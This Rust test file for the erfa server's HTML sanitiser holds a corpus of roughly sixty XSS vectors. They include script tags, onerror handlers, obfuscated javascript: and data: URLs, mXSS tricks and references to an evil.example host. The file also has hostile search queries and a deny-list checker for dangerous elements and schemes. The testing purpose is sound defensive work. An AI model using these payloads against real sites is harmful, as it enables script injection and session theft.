//! The XSS corpus: hostile write-ups and queries written for this test, each page checked
//! statically (no event handler attributes, no script URLs, no forbidden elements, and
//! sanitising the write-up HTML again changes nothing). `browser.rs` opens the same pages
//! in Chromium.

use erfa_index::Scope;

use crate::support::{App, Resp, enc, get};

/// Raw vectors, each a write-up body of its own.
pub const RAW: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" oNeRrOr=\"alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<form action=\"https://evil.example\"><input name=q><button>Go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
    "<a href=\"#\" onclick=\"alert(1)\">click</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "Inline `<img src=x onerror=alert(1)>` code",
    "[a](javascript:alert(1) \"title\")",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    "![x](x\" onerror=\"alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<img src=\"x\" alt=\"<svg onload=alert(1)>\">",
    "<p id=\"__proto__\" name=\"location\">clobber</p><a id=\"app\" href=\"javascript:alert(1)\">",
    "<object><param name=\"src\" value=\"javascript:alert(1)\"></object>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<a href=\"javascript&colon;alert(1)\">colon</a>",
];

/// Schemes whose URLs must never survive.
const SCHEMES: &[(&str, &str)] = &[
    ("javascript:", "alert(1)"),
    ("vbscript:", "msgbox(1)"),
    ("data:", "text/html,<script>alert(1)</script>"),
];

/// Ways to spell a scheme so that a deny-list misses it.
fn spellings(scheme: &str) -> Vec<String> {
    let name = scheme.trim_end_matches(':');
    let (head, tail) = name.split_at(name.len() / 2);
    let mixed: String = name
        .chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_uppercase()
            } else {
                c
            }
        })
        .collect();
    let first = name.chars().next().map_or(0, |c| c as u32);
    vec![
        format!("{name}:"),
        format!("{}:", name.to_ascii_uppercase()),
        format!("{mixed}:"),
        format!("{name}&#58;"),
        format!("{name}&#x3a;"),
        format!("{name}&colon;"),
        format!("{head}\t{tail}:"),
        format!("{head}&#10;{tail}:"),
        format!("&#14;{name}:"),
        format!("&#{first};{}:", &name[1..]),
    ]
}

/// Places a URL in Markdown and HTML.
fn contexts(url: &str) -> Vec<String> {
    vec![
        format!("[click]({url})"),
        format!("![img]({url})"),
        format!("<a href=\"{url}\">raw</a>"),
        format!("<img src=\"{url}\">"),
        format!("[ref][r]\n\n[r]: {url}"),
    ]
}

/// Payloads for front-matter fields (YAML single-quoted).
pub const FIELD_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
];

fn yaml(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// The hostile write-ups: (path, text).
pub fn corpus() -> Vec<(String, String)> {
    let mut out = Vec::new();
    let header = |title: &str| {
        format!(
            "---\ntitle: {}\nkind: mistake\ntags: [xss]\ndate: 2024-01-01\nvisibility: public\n---\n",
            yaml(title)
        )
    };
    for (i, payload) in RAW.iter().enumerate() {
        out.push((
            format!("xss/raw-{i:03}.md"),
            format!("{}## Mistake to avoid\n\nonerror payload follows.\n\n{payload}\n\n## Lesson learned\n\nSanitise last.\n", header(&format!("Raw vector {i}"))),
        ));
    }
    let mut n = 0;
    for (scheme, rest) in SCHEMES {
        for spelled in spellings(scheme) {
            let url = format!("{spelled}{rest}");
            for body in contexts(&url) {
                out.push((
                    format!("xss/url-{n:03}.md"),
                    format!(
                        "{}## Mistake to avoid\n\nScript URL {n}.\n\n{body}\n",
                        header(&format!("URL vector {n}"))
                    ),
                ));
                n += 1;
            }
        }
    }
    for (i, payload) in FIELD_PAYLOADS.iter().enumerate() {
        let p = yaml(payload);
        out.push((
            format!("xss/field-{i:03}.md"),
            format!(
                "---\ntitle: {p}\nsummary: {p}\nkind: lesson\ntags: [{p}, xss]\nauthors: [{p}]\ntools: [{p}]\norganisation: {p}\nsource: {p}\nreferences: [{p}]\nmeeting: {p}\ndate: 2024-02-02\n---\n## Lesson learned\n\nField payload {payload}\n\n```\n{payload}\n```\n"
            ),
        ));
    }
    out
}

/// Hostile queries.
pub const QUERIES: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "';alert(1)//",
    "</title><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "tags:<script>",
    "<mark>x</mark>",
    "onerror",
    "alert",
    "script",
    "svg onload",
    "\"onerror\"",
    "img src",
    "-x <script>",
    "kind:\"><script>",
    "<iframe src=javascript:alert(1)>",
    "&lt;script&gt;",
    "%3Cscript%3E",
    "\u{0}<script>",
    "<a href=javascript:alert(1)>x</a>",
    "' OR 1=1 --",
    "<body onload=alert(1)>",
    "payload",
    "field",
    "msgbox",
    "text/html",
    "\\u003cscript\\u003e",
    "<style>*{}</style>",
];

/// Builds the corpus app (errors in hostile front matter are allowed; they just are not
/// indexed).
pub fn corpus_app(scope: Scope) -> App {
    let files = corpus();
    let content = tempfile::tempdir().expect("a temp dir");
    for (path, text) in &files {
        crate::support::write(content.path(), path, text.as_bytes());
    }
    let store = erfa_index::Store::in_ram();
    let engine = crate::support::index(&store, content.path()).engine;
    let mut config = erfa_server::Config::local(content.path(), content.path().join(".erfa"));
    config.scope = scope;
    App {
        router: erfa_server::router(erfa_server::AppState::new(store, engine, config)),
        content,
    }
}

/// A tag of an HTML document: its name and attributes.
#[derive(Debug)]
pub struct Tag {
    /// Lower-case name.
    pub name: String,
    /// (lower-case name, raw value).
    pub attributes: Vec<(String, String)>,
}

/// A small tokenizer for the well-formed HTML erfa writes: start tags and their
/// attributes, with quoted values (which may hold `<` and `>`).
pub fn tags(html: &str) -> Vec<Tag> {
    let bytes = html.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'<' {
            i += 1;
            continue;
        }
        if html[i..].starts_with("<!--") {
            i = html[i..].find("-->").map_or(bytes.len(), |e| i + e + 3);
            continue;
        }
        let start = i + 1;
        if start >= bytes.len() || !bytes[start].is_ascii_alphabetic() {
            i += 1;
            continue;
        }
        let mut j = start;
        while j < bytes.len()
            && !bytes[j].is_ascii_whitespace()
            && bytes[j] != b'>'
            && bytes[j] != b'/'
        {
            j += 1;
        }
        let name = html[start..j].to_ascii_lowercase();
        let mut attributes = Vec::new();
        loop {
            while j < bytes.len() && (bytes[j].is_ascii_whitespace() || bytes[j] == b'/') {
                j += 1;
            }
            if j >= bytes.len() || bytes[j] == b'>' {
                break;
            }
            let a = j;
            while j < bytes.len()
                && !bytes[j].is_ascii_whitespace()
                && bytes[j] != b'='
                && bytes[j] != b'>'
            {
                j += 1;
            }
            let attr = html[a..j].to_ascii_lowercase();
            let mut value = String::new();
            if j < bytes.len() && bytes[j] == b'=' {
                j += 1;
                if j < bytes.len() && (bytes[j] == b'"' || bytes[j] == b'\'') {
                    let quote = bytes[j];
                    let v = j + 1;
                    j = v;
                    while j < bytes.len() && bytes[j] != quote {
                        j += 1;
                    }
                    value = html[v..j.min(bytes.len())].to_string();
                    j += 1;
                } else {
                    let v = j;
                    while j < bytes.len() && !bytes[j].is_ascii_whitespace() && bytes[j] != b'>' {
                        j += 1;
                    }
                    value = html[v..j].to_string();
                }
            }
            attributes.push((attr, value));
        }
        out.push(Tag { name, attributes });
        i = j + 1;
    }
    out
}

/// Decodes the entities that matter for URL checks, and drops what browsers ignore in a
/// URL's scheme (whitespace and control characters).
fn normalise_url(value: &str) -> String {
    let mut decoded = String::new();
    let mut rest = value;
    while let Some(pos) = rest.find('&') {
        decoded.push_str(&rest[..pos]);
        rest = &rest[pos..];
        let end = rest.find(';').filter(|e| *e < 12);
        match end {
            Some(end) => {
                let entity = &rest[1..end];
                let ch = if let Some(hex) = entity
                    .strip_prefix("#x")
                    .or_else(|| entity.strip_prefix("#X"))
                {
                    u32::from_str_radix(hex, 16).ok().and_then(char::from_u32)
                } else if let Some(dec) = entity.strip_prefix('#') {
                    dec.parse::<u32>().ok().and_then(char::from_u32)
                } else {
                    match entity {
                        "colon" => Some(':'),
                        "tab" => Some('\t'),
                        "newline" => Some('\n'),
                        "amp" => Some('&'),
                        "quot" => Some('"'),
                        "lt" => Some('<'),
                        "gt" => Some('>'),
                        _ => None,
                    }
                };
                match ch {
                    Some(c) => {
                        decoded.push(c);
                        rest = &rest[end + 1..];
                    }
                    None => {
                        decoded.push('&');
                        rest = &rest[1..];
                    }
                }
            }
            None => {
                decoded.push('&');
                rest = &rest[1..];
            }
        }
    }
    decoded.push_str(rest);
    decoded
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase()
}

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "srcset",
    "poster",
    "data",
    "xlink:href",
    "background",
    "cite",
    "longdesc",
    "usemap",
    "codebase",
    "srcdoc",
];

/// Asserts that a page has no way to run script: no event handler attribute, no script URL,
/// no style attribute, no forbidden element, and only erfa's own script, forms and metas.
pub fn assert_safe_html(html: &str, what: &str) {
    for tag in tags(html) {
        match tag.name.as_str() {
            "script" => {
                let src = tag
                    .attributes
                    .iter()
                    .find(|(n, _)| n == "src")
                    .map(|(_, v)| v.as_str());
                assert!(
                    src.is_some_and(|s| s.starts_with("/static/app.js")),
                    "{what}: a script element: {tag:?}"
                );
            }
            // erfa's own: the facilitator's confidence choice.
            "select"
                if tag
                    .attributes
                    .iter()
                    .any(|(n, v)| n == "id" && v == "confidence-choice") => {}
            "iframe" | "frame" | "frameset" | "object" | "embed" | "svg" | "math" | "base"
            | "style" | "applet" | "isindex" | "textarea" | "select" | "keygen" | "template"
            | "video" | "audio" | "source" | "marquee" => {
                panic!("{what}: forbidden element {tag:?}")
            }
            "form" => {
                let action = tag
                    .attributes
                    .iter()
                    .find(|(n, _)| n == "action")
                    .map(|(_, v)| v.as_str());
                // erfa's own forms: the search, and the facilitator's confidence
                // control, whose address is the page's own slug.
                assert!(
                    action == Some("/")
                        || action.is_some_and(|a| a.starts_with("/admin/confidence/xss/")),
                    "{what}: a form that is not erfa's own: {tag:?}"
                );
            }
            "input" | "button" => {
                assert!(
                    !tag.attributes.iter().any(|(n, _)| n == "formaction"),
                    "{what}: {tag:?}"
                );
            }
            "meta" => {
                assert!(
                    !tag.attributes.iter().any(|(n, _)| n == "http-equiv"),
                    "{what}: meta http-equiv: {tag:?}"
                );
            }
            "link" => {
                let href = tag
                    .attributes
                    .iter()
                    .find(|(n, _)| n == "href")
                    .map_or("", |(_, v)| v.as_str());
                assert!(
                    href.starts_with('/'),
                    "{what}: a link element to elsewhere: {tag:?}"
                );
            }
            _ => {}
        }
        for (name, value) in &tag.attributes {
            assert!(
                !name.starts_with("on"),
                "{what}: event handler {name}={value:?} on <{}>",
                tag.name
            );
            assert!(name != "style", "{what}: style attribute on <{}>", tag.name);
            assert!(name != "srcdoc", "{what}: srcdoc on <{}>", tag.name);
            if URL_ATTRIBUTES.contains(&name.as_str()) {
                let url = normalise_url(value);
                for bad in ["javascript:", "vbscript:", "data:", "livescript:"] {
                    assert!(
                        !url.starts_with(bad),
                        "{what}: {bad} URL in {name}={value:?} on <{}>",
                        tag.name
                    );
                }
                if tag.name == "img" && name == "src" {
                    assert!(
                        url.starts_with('/'),
                        "{what}: an image from elsewhere: {value:?}"
                    );
                }
            }
        }
    }
}

/// Checks a successful page and returns its HTML.
fn checked(resp: &Resp, what: &str) -> String {
    assert!(resp.status.is_success(), "{what}: {}", resp.status);
    let html = resp.text();
    assert_safe_html(&html, what);
    html
}

#[tokio::test]
async fn the_corpus_has_enough_hostile_inputs() {
    let writeups = corpus().len();
    assert!(writeups >= 150, "{writeups} write-ups");
    assert!(writeups + QUERIES.len() >= 200);
}

#[tokio::test]
async fn hostile_writeups_render_without_a_way_to_run_script() {
    let app = corpus_app(Scope::Facilitator);
    let mut seen = 0;
    for (path, _) in corpus() {
        let slug = path.trim_end_matches(".md");
        let resp = get(&app.router, &format!("/api/writeups/{slug}")).await;
        if resp.status == 404 {
            // Hostile front matter that is not valid YAML is reported, not indexed.
            continue;
        }
        seen += 1;
        let json = resp.json();
        let body = json["html"].as_str().expect("html");
        assert_safe_html(body, &path);
        assert_eq!(
            erfa_server::render::clean(body),
            body,
            "{path}: sanitising again changes it"
        );
        let page = get(&app.router, &format!("/w/{slug}")).await;
        checked(&page, &path);
    }
    assert!(seen >= 150, "only {seen} hostile write-ups were indexed");
}

#[tokio::test]
async fn hostile_queries_are_escaped_on_every_page() {
    let app = corpus_app(Scope::Facilitator);
    for q in QUERIES {
        for uri in [
            format!("/?q={}", enc(q)),
            format!("/?q={}&sort=newest&section=mistake", enc(q)),
            format!("/?q=x&tags={}", enc(q)),
        ] {
            let resp = get(&app.router, &uri).await;
            assert_eq!(resp.status, 200, "{uri}");
            checked(&resp, &uri);
        }
        let api = get(&app.router, &format!("/api/search?q={}", enc(q))).await;
        assert_eq!(api.mime(), "application/json");
        for hit in api.json()["hits"].as_array().expect("hits") {
            let snippet = hit["snippet"]["html"].as_str().expect("snippet");
            let without_marks = snippet.replace("<mark>", "").replace("</mark>", "");
            assert!(
                !without_marks.contains('<'),
                "{q}: unescaped snippet {snippet}"
            );
        }
    }
    for uri in ["/browse", "/", "/?q=payload&per_page=100"] {
        let resp = get(&app.router, uri).await;
        checked(&resp, uri);
    }
    let feed = get(&app.router, "/feed.atom").await.text();
    for raw in ["<script", "<img", "<svg", "<iframe"] {
        assert!(!feed.contains(raw), "the feed has raw {raw}");
    }
}

#[test]
fn the_checker_catches_what_it_must() {
    let bad = [
        "<img src=x onerror=alert(1)>",
        "<a href=\"java&#x09;script:alert(1)\">",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">",
        "<iframe src=\"/\">",
        "<div style=\"x\">",
        "<script>alert(1)</script>",
        "<meta http-equiv=\"refresh\" content=\"0\">",
        "<img src=\"https://evil.example/x.png\">",
    ];
    for html in bad {
        let caught = std::panic::catch_unwind(|| assert_safe_html(html, "test")).is_err();
        assert!(caught, "not caught: {html}");
    }
    assert_safe_html(
        "<p title=\"<img src=x onerror=alert(1)>\">&lt;script&gt;</p>",
        "ok",
    );
}

/// A search core failure found by the corpus: a phrase from a typed URL, limited to the
/// mistake section and sorted by date, panics inside tantivy's phrase scorer. The server
/// answers 500 "internal error" and keeps serving; erfa-index has to fix the query.
#[tokio::test]
async fn phrase_in_mistake_section_sorted_by_date() {
    let app = corpus_app(Scope::Facilitator);
    let resp = get(
        &app.router,
        "/api/search?q=javascript%3Aalert%281%29&sort=newest&section=mistake",
    )
    .await;
    assert_eq!(resp.status, 200, "{}", resp.text());
}
